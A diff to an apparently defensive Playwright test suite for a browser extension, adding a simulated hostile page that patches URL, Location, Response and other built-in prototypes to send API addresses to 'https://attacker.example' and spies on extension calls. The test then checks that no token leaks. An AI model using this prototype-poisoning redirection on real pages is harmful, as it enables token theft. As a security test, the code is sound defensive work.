@@ -21,6 +21,44 @@ async function poison(page: Page): Promise<void> {
       if (typeof value === 'object' && value !== null) Object.assign(value, { result: [{ outcome: 'pass' }] })
       return value
     }
+    // What addresses are built and asked with: whoever goes by these is led elsewhere, and told that all is right.
+    const elsewhere = 'https://attacker.example'
+    const RealURL = URL
+    globalThis.URL = class extends RealURL {
+      override get origin() {
+        return super.pathname.startsWith('/api/') ? elsewhere : super.origin
+      }
+      override get href() {
+        return super.pathname.startsWith('/api/') ? elsewhere + super.pathname : super.href
+      }
+    }
+    // Whatever of the page's own is called from a script of ours tells that it was.
+    const spy = (owner: object, name: string) =>
+      Object.defineProperty(owner, name, {
+        value: new Proxy(Reflect.get(owner, name) as () => unknown, {
+          apply(target, self, args: []) {
+            if (new Error('here').stack?.includes('chrome-extension:')) tell(`neo called ${name}`)
+            return Reflect.apply(target, self, args)
+          },
+        }),
+        writable: true,
+        configurable: true,
+      })
+    for (const name of ['get', 'set', 'append']) spy(Headers.prototype, name)
+    for (const name of ['then', 'catch', 'finally']) spy(Promise.prototype, name)
+    for (const name of ['json', 'text']) spy(Response.prototype, name)
+    for (const name of ['map', 'filter', 'includes', 'find']) spy(Array.prototype, name)
+    for (const name of ['startsWith', 'replace', 'split']) spy(String.prototype, name)
+    spy(RegExp.prototype, 'test')
+    for (const [prototype, name] of [
+      [Location.prototype, 'origin'],
+      [Document.prototype, 'baseURI'],
+      [Node.prototype, 'baseURI'],
+      [Response.prototype, 'url'],
+    ] as const) {
+      const own = Object.getOwnPropertyDescriptor(prototype, name)
+      if (own?.configurable) Object.defineProperty(prototype, name, { ...own, get: () => `${elsewhere}/` })
+    }
     const everything: object = Object.prototype
     for (const [name, value] of Object.entries({
       ok: true,
@@ -46,7 +84,7 @@ const settled = (server: Running) =>
 
 const heard = (page: Page) => page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard)
 
-test('a page that patched everything learns no token, and turns no verdict', async ({ admin, openPopup }) => {
+test('a page that patched everything learns no token, and turns no verdict', async ({ admin, openPopup, server }) => {
   await poison(admin)
   const guide = await startOnForm(admin, openPopup)
   await admin.locator('input[name=redirect_url]').fill('https://dashboard.neoagent.io/')
@@ -55,7 +93,9 @@ test('a page that patched everything learns no token, and turns no verdict', asy
   // What the page says to itself is not of ours.
   const own = (await heard(admin)).filter((line) => /neo|setup\.|page\.|verify\.|plan\./i.test(line))
   expect(own).toEqual([])
-  expect((await heard(admin)).filter((line) => line.includes('sysparm_exclude_reference_link'))).toEqual([])
+  expect((await heard(admin)).filter((line) => line.includes('exclude_reference_link'))).toEqual([])
+  await settled(server)
+  expect(server.attacked).toEqual([])
 })
 
 test('clicks and keys that no person made do nothing', async ({ admin, context, openPopup, server }) => {
